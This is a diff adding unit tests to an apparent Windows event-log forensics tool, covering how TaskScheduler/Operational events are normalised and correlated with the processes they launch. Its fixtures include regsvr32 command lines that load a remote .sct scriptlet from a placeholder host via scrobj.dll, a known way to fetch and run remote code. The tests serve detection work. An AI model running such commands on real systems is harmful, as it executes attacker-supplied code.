@@ -4,8 +4,10 @@
  * order, out of order, missing, repeated, cut), scheduled-task XML
  * (well-formed and hostile), services (7045 / 4697), Sysmon 22 / 11,
  * WMI subscriptions (Sysmon 19 / 20 / 21, WMI-Activity 5861), remote
- * threads and process access (Sysmon 8 / 10) tied to their source, and which
- * of them make a host examinable.
+ * threads and process access (Sysmon 8 / 10) tied to their source,
+ * TaskScheduler/Operational task events (106, 129, 140, 141, 200, 201)
+ * joined into runs tied to the process launched, and which of them make
+ * a host examinable.
  */
 #include <check.h>
 #include <stdio.h>
@@ -85,6 +87,16 @@ START_TEST(test_classify_sources)
 		{ EV_PROVIDER_SECURITY, 7045, EV_KIND_NONE },
 		{ "Fake-Provider", 4698, EV_KIND_NONE },
 		{ EV_PROVIDER_SECURITY, 11, EV_KIND_NONE },
+		{ EV_PROVIDER_TASKSCHED, 106, EV_KIND_TASK },
+		{ EV_PROVIDER_TASKSCHED, 129, EV_KIND_TASK },
+		{ EV_PROVIDER_TASKSCHED, 140, EV_KIND_TASK },
+		{ EV_PROVIDER_TASKSCHED, 141, EV_KIND_TASK },
+		{ EV_PROVIDER_TASKSCHED, 200, EV_KIND_TASK },
+		{ EV_PROVIDER_TASKSCHED, 201, EV_KIND_TASK },
+		{ EV_PROVIDER_TASKSCHED, 102, EV_KIND_NONE },
+		{ EV_PROVIDER_TASKSCHED, 4698, EV_KIND_NONE },
+		{ EV_PROVIDER_SECURITY, 129, EV_KIND_NONE },
+		{ EV_PROVIDER_SYSMON, 200, EV_KIND_NONE },
 	};
 
 	for (size_t i = 0; i < NELEM(c); i++)
@@ -306,6 +318,208 @@ START_TEST(test_task_4698)
 	ck_assert_str_eq(ev_col(ev, EV_COL_USER), "CORP\\alice");
 	ck_assert_str_eq(ev_col(ev, EV_COL_PID), "496");
 	ck_assert(ev_examinable(ev));
+}
+END_TEST
+
+/* ---- TaskScheduler/Operational ---- */
+
+#define TS_CHAN	"Microsoft-Windows-TaskScheduler/Operational"
+#define REGSVR	"C:\\Windows\\System32\\regsvr32.exe"
+
+static struct ev_event *
+ts_at(const char *host, uint64_t t, uint32_t id, const struct ev_pair *d,
+    uint32_t n)
+{
+	struct ev_event *ev = normalised(id == 1 ? EV_PROVIDER_SYSMON :
+	    EV_PROVIDER_TASKSCHED, TS_CHAN, id, d, n);
+
+	ck_assert_int_eq(ev_col_set(ev, EV_COL_COMPUTER, host, &arena), 0);
+	ev->time = t;
+	return ev;
+}
+
+/* The fields as the real log names them (Windows 10). */
+START_TEST(test_tasksched_norm)
+{
+	static const struct ev_pair reg[] = { { "TaskName", "\\Upd" },
+	    { "UserContext", "S-1-5-18" } };
+	static const struct ev_pair upd[] = { { "TaskName", "\\Upd" },
+	    { "UserName", "CORP\\bob" } };
+	static const struct ev_pair launch[] = { { "TaskName", "\\Upd" },
+	    { "Path", REGSVR }, { "ProcessID", "4242" },
+	    { "Priority", "16384" } };
+	static const struct ev_pair start[] = { { "TaskName", "\\Upd" },
+	    { "ActionName", REGSVR }, { "TaskInstanceId", "{I1}" },
+	    { "EnginePID", "4242" } };
+	static const struct ev_pair done[] = { { "TaskName", "\\Upd" },
+	    { "TaskInstanceId", "{I1}" }, { "ActionName", REGSVR },
+	    { "ResultCode", "2147942401" }, { "EnginePID", "4242" } };
+	static const struct ev_pair com[] = { { "TaskName", "\\Upd" },
+	    { "ActionName", "" }, { "TaskInstanceId", "{I2}" },
+	    { "EnginePID", "0x10" } };
+	struct ev_event *ev = ts_at("A", 1, 106, reg, NELEM(reg));
+
+	ck_assert_int_eq(ev->kind, EV_KIND_TASK);
+	ck_assert_str_eq(ev_col(ev, EV_COL_TASK_NAME), "\\Upd");
+	ck_assert_str_eq(ev_col(ev, EV_COL_USER), "NT AUTHORITY\\SYSTEM");
+	ck_assert_ptr_null(ev_col(ev, EV_COL_COMMAND_LINE));
+	ck_assert(!ev_examinable(ev));
+	ck_assert(ev_is_tasksched(ev));
+	for (uint32_t id = 140; id <= 141; id++) {
+		ev = ts_at("A", 1, id, upd, NELEM(upd));
+		ck_assert_str_eq(ev_col(ev, EV_COL_USER), "CORP\\bob");
+		ck_assert(!ev_examinable(ev));
+	}
+	ev = ts_at("A", 1, 129, launch, NELEM(launch));
+	ck_assert_str_eq(ev_col(ev, EV_COL_IMAGE), REGSVR);
+	ck_assert_str_eq(ev_col(ev, EV_COL_COMMAND_LINE), REGSVR);
+	ck_assert_str_eq(ev_col(ev, EV_COL_TARGET_PID), "4242");
+	ck_assert_ptr_null(ev_col(ev, EV_COL_PID));
+	ck_assert(ev_examinable(ev));
+	ck_assert_str_eq(ev_data(ev, "Priority"), "16384");
+	ev = ts_at("A", 1, 200, start, NELEM(start));
+	ck_assert_str_eq(ev_col(ev, EV_COL_IMAGE), REGSVR);
+	ck_assert_str_eq(ev_col(ev, EV_COL_COMMAND_LINE), REGSVR);
+	ck_assert_str_eq(ev_col(ev, EV_COL_TASK_INSTANCE_ID), "{I1}");
+	ck_assert_str_eq(ev_col(ev, EV_COL_TARGET_PID), "4242");
+	ck_assert(ev_examinable(ev));
+	ev = ts_at("A", 1, 201, done, NELEM(done));
+	ck_assert_str_eq(ev_col(ev, EV_COL_IMAGE), REGSVR);
+	ck_assert_ptr_null(ev_col(ev, EV_COL_COMMAND_LINE));
+	ck_assert_str_eq(ev_col(ev, EV_COL_RESULT_CODE), "2147942401");
+	ck_assert_str_eq(ev_col(ev, EV_COL_TASK_INSTANCE_ID), "{I1}");
+	ck_assert(!ev_examinable(ev));
+	/* a COM handler logs no program: nothing shown ran */
+	ev = ts_at("A", 1, 200, com, NELEM(com));
+	ck_assert_ptr_null(ev_col(ev, EV_COL_IMAGE));
+	ck_assert_ptr_null(ev_col(ev, EV_COL_COMMAND_LINE));
+	ck_assert_str_eq(ev_col(ev, EV_COL_TARGET_PID), "16");
+	ck_assert(!ev_examinable(ev));
+	/* a Security 4698 is no TaskScheduler event */
+	ck_assert(!ev_is_tasksched(normalised(EV_PROVIDER_SECURITY, "Security",
+	    4698, upd, NELEM(upd))));
+}
+END_TEST
+
+static struct ev_event *
+ts_ev(const char *host, uint64_t t, uint32_t id, const char *name,
+    const char *img, const char *pid, const char *inst)
+{
+	struct ev_pair *d = ev_arena_alloc(&arena, 5 * sizeof(*d));
+	uint32_t n = 0;
+
+	ck_assert_ptr_nonnull(d);
+	d[n++] = (struct ev_pair){ "TaskName", name };
+	if (id == 129) {
+		d[n++] = (struct ev_pair){ "Path", img };
+		d[n++] = (struct ev_pair){ "ProcessID", pid };
+	} else if (id == 200 || id == 201) {
+		d[n++] = (struct ev_pair){ "ActionName", img };
+		d[n++] = (struct ev_pair){ "TaskInstanceId", inst };
+		d[n++] = (struct ev_pair){ "EnginePID", pid };
+		if (id == 201)
+			d[n++] = (struct ev_pair){ "ResultCode", "0" };
+	} else
+		d[n++] = (struct ev_pair){ "UserContext", "CORP\\bob" };
+	return ts_at(host, t, id, d, n);
+}
+
+#define TS_SEC	10000000ULL	/* FILETIME ticks */
+
+static struct ev_event *
+ts_proc(const char *host, uint64_t t, const char *pid, const char *img,
+    const char *cmd)
+{
+	struct ev_pair *d = ev_arena_alloc(&arena, 5 * sizeof(*d));
+
+	ck_assert_ptr_nonnull(d);
+	d[0] = (struct ev_pair){ "ProcessGuid", pid };	/* unique enough */
+	d[1] = (struct ev_pair){ "ProcessId", pid };
+	d[2] = (struct ev_pair){ "Image", img };
+	d[3] = (struct ev_pair){ "CommandLine", cmd };
+	d[4] = (struct ev_pair){ "ParentImage",
+	    "C:\\Windows\\System32\\svchost.exe" };
+	return ts_at(host, t, 1, d, 5);
+}
+
+#define CMD_EXE_TS	"C:\\Windows\\System32\\cmd.exe"
+
+/* A run joined, tied to its process without a 4698; one link with it. */
+START_TEST(test_tasksched_correlate)
+{
+	static const struct ev_pair sec[] = { { "TaskName", "\\T2" },
+	    { "TaskContent", "<Task><Actions><Exec><Command>" REGSVR
+	    "</Command><Arguments>/s /i:http://x/2.sct scrobj.dll</Arguments>"
+	    "</Exec></Actions></Task>" } };
+	struct ev_event *v[16];
+	const struct ev_event *ran[4];
+	struct corr_task t;
+	size_t n = 0;
+	struct corr *c;
+
+	v[n++] = ts_ev("A", 10 * TS_SEC, 106, "\\Upd", NULL, NULL, NULL);
+	v[n++] = ts_ev("A", 100 * TS_SEC, 129, "\\Upd", "regsvr32.exe",
+	    "4242", NULL);
+	v[n++] = ts_ev("A", 100 * TS_SEC + 1, 200, "\\upd", REGSVR, "4242",
+	    "{I1}");
+	v[n++] = ts_proc("A", 101 * TS_SEC, "4242", REGSVR, REGSVR
+	    " /s /i:http://x/1.sct scrobj.dll");
+	/* another host's run of the same pid and name */
+	v[n++] = ts_ev("B", 101 * TS_SEC, 129, "\\Upd", REGSVR, "4242",
+	    NULL);
+	v[n++] = ts_ev("A", 200 * TS_SEC, 201, "\\Upd", REGSVR, "4242",
+	    "{i1}");
+	/* a 4698 and a run of its task: the process is the 4698's */
+	v[n++] = normalised(EV_PROVIDER_SECURITY, "Security", 4698, sec,
+	    NELEM(sec));
+	v[n++] = ts_ev("A", 300 * TS_SEC, 129, "\\T2", REGSVR, "5000", NULL);
+	v[n++] = ts_proc("A", 301 * TS_SEC, "5000", REGSVR, REGSVR
+	    " /s /i:http://x/2.sct scrobj.dll");
+	/* the pid, but past the window; the pid, but another image */
+	v[n++] = ts_ev("A", 400 * TS_SEC, 129, "\\L", REGSVR, "6000", NULL);
+	v[n++] = ts_proc("A", 406 * TS_SEC, "6000", REGSVR, REGSVR);
+	v[n++] = ts_ev("A", 500 * TS_SEC, 129, "\\M", REGSVR, "7000", NULL);
+	v[n++] = ts_proc("A", 500 * TS_SEC, "7000", CMD_EXE_TS, "cmd.exe");
+	/* no 129: its 200 by EnginePID */
+	v[n++] = ts_ev("C", 600 * TS_SEC, 200, "\\N", "MyHandler", "77",
+	    "{I3}");
+	v[n++] = ts_proc("C", 600 * TS_SEC, "77",
+	    "C:\\Windows\\System32\\taskhostw.exe", "taskhostw.exe");
+	ck_assert_int_eq(ev_col_set(v[6], EV_COL_COMPUTER, "A", &arena), 0);
+	v[6]->time = 250 * TS_SEC;
+	for (size_t i = 0; i < n; i++)
+		v[i]->seq = (uint32_t)i;
+	ck_assert_int_eq(corr_build(v, n, &c, NULL), 0);
+	ck_assert_ptr_eq(corr_origin(c, v[3]), v[1]);
+	ck_assert_uint_eq(corr_started(c, v[1], ran, 4), 1);
+	ck_assert_ptr_eq(ran[0], v[3]);
+	ck_assert_uint_eq(corr_started(c, v[4], ran, 4), 0);
+	for (int i = 0; i < 4; i++) {
+		struct ev_event *e = v[i == 0 ? 3 : i == 1 ? 1 : i == 2 ? 2 : 5];
+
+		ck_assert(corr_task(c, e, &t));
+		ck_assert_ptr_eq(t.registered, v[0]);
+		ck_assert_ptr_eq(t.launched, v[1]);
+		ck_assert_ptr_eq(t.started, v[2]);
+		ck_assert_ptr_eq(t.completed, v[5]);
+	}
+	ck_assert(corr_task(c, v[4], &t));
+	ck_assert_ptr_null(t.started);
+	ck_assert_ptr_null(t.registered);
+	ck_assert(!corr_task(c, v[0], &t));
+	ck_assert(!corr_task(c, v[6], &t));
+	/* both: one link, to the 4698; the run still found by process */
+	ck_assert_ptr_eq(corr_origin(c, v[8]), v[6]);
+	ck_assert_uint_eq(corr_started(c, v[7], ran, 4), 0);
+	ck_assert_uint_eq(corr_started(c, v[6], ran, 4), 1);
+	ck_assert(corr_task(c, v[8], &t));
+	ck_assert_ptr_eq(t.launched, v[7]);
+	ck_assert_ptr_eq(t.registered, v[6]);
+	ck_assert_ptr_null(corr_origin(c, v[10]));
+	ck_assert(!corr_task(c, v[10], &t));
+	ck_assert_ptr_null(corr_origin(c, v[12]));
+	ck_assert_ptr_eq(corr_origin(c, v[14]), v[13]);
+	corr_free(c);
 }
 END_TEST
 
@@ -1211,6 +1425,8 @@ sources_suite(void)
 	tcase_add_loop_test(tc, test_task_xml_hostile, 0, NELEM(hostile));
 	tcase_add_test(tc, test_task_xml_bounds);
 	tcase_add_test(tc, test_task_4698);
+	tcase_add_test(tc, test_tasksched_norm);
+	tcase_add_test(tc, test_tasksched_correlate);
 	tcase_add_test(tc, test_sysmon_dns_file);
 	tcase_add_test(tc, test_sysmon_access);
 	tcase_add_test(tc, test_sysmon_access_correlate);
